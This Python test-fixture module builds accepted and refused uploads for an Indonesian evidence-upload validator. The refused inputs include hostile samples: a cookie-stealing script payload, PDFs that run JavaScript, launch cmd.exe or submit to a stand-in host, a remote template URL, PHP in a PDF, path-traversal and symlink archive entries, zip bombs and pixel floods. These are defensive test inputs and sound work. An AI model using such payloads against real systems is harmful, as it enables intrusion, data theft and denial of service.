"""Files that people, and people with bad intentions, might offer as evidence; all of them are built here."""

import io
import struct
import zipfile
import zlib

import pikepdf
from PIL import Image

from realisations.evidence.sniffing import EICAR

CONTENT_TYPES = "[Content_Types].xml"
MEGABYTE = 1024 * 1024
PAYLOAD = b"<script>alert(document.cookie)</script>"
OLE = bytes.fromhex("d0cf11e0a1b11ae1")


def pdf(pages: int = 1, *, change=None, **saving: object) -> bytes:
    document = pikepdf.new()
    for _ in range(pages):
        document.add_blank_page(page_size=(595, 842))
    if change:
        change(document)
    target = io.BytesIO()
    document.save(target, **saving)
    return target.getvalue()


def locked_pdf(owner: str, user: str) -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner=owner, user=user))


def pdf_with_action(action: dict[str, object]) -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = document.make_indirect(pikepdf.Dictionary(action))

    return pdf(change=change)


def pdf_with_script() -> bytes:
    return pdf_with_action({"/S": pikepdf.Name("/JavaScript"), "/JS": pikepdf.String("app.alert(1)")})


def pdf_with_launch() -> bytes:
    return pdf_with_action({"/S": pikepdf.Name("/Launch"), "/F": pikepdf.String("cmd.exe")})


def pdf_with_submit() -> bytes:
    return pdf_with_action({"/S": pikepdf.Name("/SubmitForm"), "/F": pikepdf.String("http://jahat.example/")})


def pdf_with_attachment() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.attachments["lampiran.bin"] = b"isi"

    return pdf(change=change)


def pdf_with_link() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        action = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://contoh.go.id/"))
        link = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 10, 10], A=action
        )  # fmt: skip
        document.pages[0].Annots = document.make_indirect(pikepdf.Array([link]))

    return pdf(change=change)


def picture(kind: str, size: tuple[int, int] = (40, 30), mode: str = "RGB", **saving: object) -> bytes:
    target = io.BytesIO()
    Image.new(mode, size, 90 if mode in "LI;16" else None).save(target, kind, **saving)
    return target.getvalue()


def photo_with_place() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "Kamera Rahasia"
    exif.get_ifd(0x8825)[1] = "S"
    return picture("JPEG", exif=exif)


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def pixel_flood(side: int = 50_000) -> bytes:
    header = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", b"x") + png_chunk(b"IEND", b"")


def container(members: dict[str, bytes | str], comment: bytes = b"", compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", compression) as archive:
        archive.comment = comment
        for name, content in members.items():
            archive.writestr(name, content)
    return target.getvalue()


def office(kind: str, extra: dict[str, bytes | str] | None = None, main: str = "", **options: object) -> bytes:
    part, usual = {
        "docx": ("word/document.xml", "wordprocessingml.document.main+xml"),
        "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet.main+xml"),
    }[kind]
    types = f'<Types><Override PartName="/{part}" ContentType="application/vnd.x.{main or usual}"/></Types>'
    return container({CONTENT_TYPES: types, part: "<x/>", **(extra or {})}, **options)


def docx(**extra: bytes | str) -> bytes:
    return office("docx", {f"word/{name.replace('__', '.')}": content for name, content in extra.items()})


def ods(extra: dict[str, bytes | str] | None = None, kind: str = "spreadsheet") -> bytes:
    mimetype = f"application/vnd.oasis.opendocument.{kind}"
    manifest = "<manifest/>"
    return container({"mimetype": mimetype, "content.xml": "<x/>", "META-INF/manifest.xml": manifest, **(extra or {})})


def relations(kind: str, target: str) -> str:
    return (
        f'<Relationships><Relationship Type="http://x/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )


def encrypted_container() -> bytes:
    """The flag of every part says that it is encrypted."""
    content = bytearray(office("docx"))
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = content.find(mark)
        while start >= 0:
            content[start + place] |= 1
            start = content.find(mark, start + 4)
    return bytes(content)


def lying_container() -> bytes:
    """The directory says that a part is small; unpacked it has 300 MB."""
    content = bytearray(office("docx", {"word/media.bin": bytes(4 * MEGABYTE)}))
    start = content.find(b"PK\x01\x02", content.find(b"PK\x01\x02", content.find(b"PK\x01\x02") + 4) + 4)
    content[start + 24 : start + 28] = struct.pack("<I", 1000)
    return bytes(content)


def linked_container() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr(CONTENT_TYPES, "<x/>")
        link = zipfile.ZipInfo("word/document.xml")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return target.getvalue()


def jar() -> bytes:
    return container({"META-INF/MANIFEST.MF": "Main-Class: X", "X.class": b"\xca\xfe\xba\xbe"})


GIF = b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;"
LONG_NAME = "laporan " * 60 + ".pdf"

ACCEPTED: list[tuple[str, bytes, str]] = [
    ("laporan.pdf", pdf(), "pdf"),
    ("LAPORAN.PDF", pdf(2), "pdf"),
    ("tanpa akhiran", pdf(3), "pdf"),
    ("lima ratus.pdf", pdf(500), "pdf"),
    ("tautan.pdf", pdf_with_link(), "pdf"),
    ("terlinearisasi.pdf", pdf(4, linearize=True), "pdf"),
    ("spasi di akhir.pdf", pdf(5) + b"\n\0\n", "pdf"),
    (LONG_NAME, pdf(6), "pdf"),
    ("../../etc/passwd.pdf", pdf(7), "pdf"),
    ("foto\u202egpj.pdf", pdf(8), "pdf"),
    ("foto.jpg", picture("JPEG"), "jpg"),
    ("foto.jpeg", picture("JPEG", (41, 30)), "jpg"),
    ("cmyk.jpg", picture("JPEG", mode="CMYK"), "jpg"),
    ("lokasi.jpg", photo_with_place(), "jpg"),
    ("ekor.jpg", picture("JPEG", (42, 30)) + PAYLOAD, "jpg"),
    ("gambar dan jar.jpg", picture("JPEG", (43, 30)) + jar(), "jpg"),
    ("foto.png", picture("PNG"), "png"),
    ("bening.png", picture("PNG", mode="RGBA"), "png"),
    ("palet.png", picture("PNG", mode="P"), "png"),
    ("abu.png", picture("PNG", mode="L"), "png"),
    ("foto dari whatsapp.jpg", picture("WEBP"), "webp"),
    ("foto.webp", picture("WEBP", (41, 30)), "webp"),
    ("surat.docx", docx(), "docx"),
    ("surat bergambar.docx", docx(media=picture("PNG")), "docx"),
    ("surat bertautan.docx", docx(a__rels=relations("hyperlink", "https://contoh.go.id")), "docx"),
    ("tabel.xlsx", office("xlsx"), "xlsx"),
    ("tabel.ods", ods(), "ods"),
    ("grafik.ods", ods({"Object 1/content.xml": "<x/>"}), "ods"),
]
"""Name, content, and what it is kept as."""

REFUSED: list[tuple[str, bytes, str]] = [
    ("kosong.pdf", b"", "kosong"),
    ("besar.pdf", pdf() + bytes(10 * MEGABYTE), "lebih besar dari 10 MB"),
    ("catatan.txt", b"catatan rapat", "Jenis berkas ini tidak diterima"),
    ("data.csv", b"a;b\n1;2\n", "Jenis berkas ini tidak diterima"),
    ("acak.pdf", bytes(range(256)) * 8, "Jenis berkas ini tidak diterima"),
    ("halaman.html", b"<!DOCTYPE html><html><body>x</body></html>", "Halaman web"),
    ("halaman.pdf", b"<html>" + PAYLOAD, "Halaman web"),
    ("gambar.svg", b'<svg xmlns="http://www.w3.org/2000/svg">' + PAYLOAD + b"</svg>", "SVG"),
    ("gambar.png", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>', "SVG"),
    ("arsip.mht", b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n", "Halaman web"),
    ("program.js", b"alert(1)", "Jenis berkas ini tidak diterima"),
    ("program.exe", b"MZ" + bytes(100), "program"),
    ("skrip.sh", b"#!/bin/sh\necho x", "program"),
    ("film.swf", b"FWS\x09" + bytes(50), "Jenis berkas ini tidak diterima"),
    ("film.mp4", b"\0\0\0\x18ftypmp42" + bytes(50), "Jenis berkas ini tidak diterima"),
    ("foto.heic", b"\0\0\0\x18ftypheic" + bytes(50), "HEIC"),
    ("gambar.gif", GIF, "GIF"),
    ("gifar.gif", GIF + jar(), "GIF"),
    ("gambar.bmp", picture("BMP"), "BMP"),
    ("gambar.tiff", picture("TIFF"), "TIFF"),
    ("arsip.rar", b"Rar!\x1a\x07\0" + bytes(50), "Arsip mampat"),
    ("arsip.7z", b"7z\xbc\xaf\x27\x1c" + bytes(50), "Arsip mampat"),
    ("arsip.zip", container({"a.txt": "a"}), "Arsip ZIP"),
    ("program.jar", jar(), "Arsip ZIP"),
    ("surat.rtf", b"{\\rtf1 halo}", "RTF"),
    ("surat.doc", OLE + bytes(600), "Office lama"),
    ("berkata sandi.xlsx", OLE + bytes(600) + "EncryptedPackage".encode("utf-16-le"), "berkata sandi"),
    ("virus.txt", EICAR, "virus"),
    ("virus.pdf", pdf() + EICAR, "virus"),
    ("virus.docx", docx(media=EICAR), "virus"),
    ("sampah di depan.pdf", b"MZ\0\0" + pdf(), "program"),
    ("spasi di depan.pdf", b"\n\n" + pdf(), "Jenis berkas ini tidak diterima"),
    ("html di pdf.pdf", pdf() + b"<html>" + PAYLOAD + b"</html>\n%%EOF", "berkas lain"),
    ("php di pdf.pdf", pdf().replace(b"%%EOF", b"<?php system(1) ?>\n%%EOF"), "berkas lain"),
    ("zip di pdf.pdf", pdf() + jar(), "berkas lain"),
    ("zip di pdf, ditutup.pdf", pdf() + container({"a": "b"}, comment=b"%%EOF"), "berkas lain"),
    ("terpotong.pdf", pdf(40)[:-200], "terpotong"),
    ("rusak.pdf", b"%PDF-1.7\nbukan apa-apa\n%%EOF", "rusak"),
    ("tanpa halaman.pdf", pdf(0), "rusak"),
    ("sandi buka.pdf", locked_pdf("pemilik", "pengguna"), "berkata sandi"),
    ("sandi ubah.pdf", locked_pdf("pemilik", ""), "berkata sandi"),
    ("skrip.pdf", pdf_with_script(), "memuat program"),
    ("menjalankan.pdf", pdf_with_launch(), "memuat program"),
    ("mengirim.pdf", pdf_with_submit(), "memuat program"),
    ("lampiran.pdf", pdf_with_attachment(), "memuat program"),
    ("sepuluh ribu halaman.pdf", pdf(10_000), "10000 halaman"),
    ("terpotong.jpg", picture("JPEG", (900, 900))[:2000], "rusak atau terpotong"),
    ("terpotong.png", picture("PNG", (900, 900))[:120], "rusak atau terpotong"),
    ("awal saja.webp", b"RIFF\x10\0\0\0WEBPVP8 ", "rusak atau terpotong"),
    ("banjir.png", pixel_flood(), "60 juta piksel"),
    ("sedikit di atas.png", pixel_flood(7_800), "60 juta piksel"),
    ("bom.docx", docx(media=bytes(40 * MEGABYTE)), "tidak wajar"),
    ("bom besar.xlsx", office("xlsx", {f"xl/{n}": bytes(35 * MEGABYTE) for n in range(6)}), "tidak wajar"),
    ("bohong.docx", lying_container(), "rusak"),
    ("bagian.docx", office("docx", {f"word/{n}": "" for n in range(1001)}), "1000 bagian"),
    ("entitas.docx", docx(x__xml='<!DOCTYPE a [<!ENTITY b "c">]><a/>'), "tidak wajar"),
    ("keluar.docx", office("docx", {"../../etc/cron.d/x": "x"}), "tidak wajar"),
    ("mutlak.docx", office("docx", {"/etc/cron.d/x": "x"}), "tidak wajar"),
    ("simbolik.docx", linked_container(), "tidak wajar"),
    ("komentar.docx", office("docx", comment=PAYLOAD), "tidak wajar"),
    ("makro.docx", docx(vbaProject__bin=OLE), "makro"),
    ("makro.xlsx", office("xlsx", {"xl/macrosheets/sheet1.xml": "<x/>"}), "makro"),
    ("makro diganti nama.docx", office("docx", main="document.macroEnabled.main+xml"), "makro"),
    ("makro.ods", ods({"Basic/Standard/Module1.xml": "<x/>"}), "makro"),
    ("ole.docx", docx(oleObject1=OLE + bytes(20)), "berkas lain"),
    ("bersarang.docx", docx(embedded=office("xlsx")), "berkas lain"),
    ("ole.ods", ods({"Object 1": OLE + bytes(20)}), "berkas lain"),
    ("templat jauh.docx", docx(a__rels=relations("attachedTemplate", "http://jahat.example/x.dotm")), "tempat lain"),
    ("sandi.docx", encrypted_container(), "berkata sandi"),
    ("sandi.ods", ods({"META-INF/manifest.xml": "<manifest:encryption-data/>"}), "berkata sandi"),
    ("terpotong.docx", office("docx")[:-30], "rusak"),
    ("dokumen teks.odt", ods(kind="text"), "Jenis berkas ini tidak diterima"),
    ("salah akhiran.docx", pdf(9), "isinya PDF"),
    ("salah akhiran.html", pdf(10), "isinya PDF"),
    ("gambar.svg.html", picture("PNG", (50, 30)), "isinya PNG"),
]
"""Name, content, and words of the sentence that refuses it."""
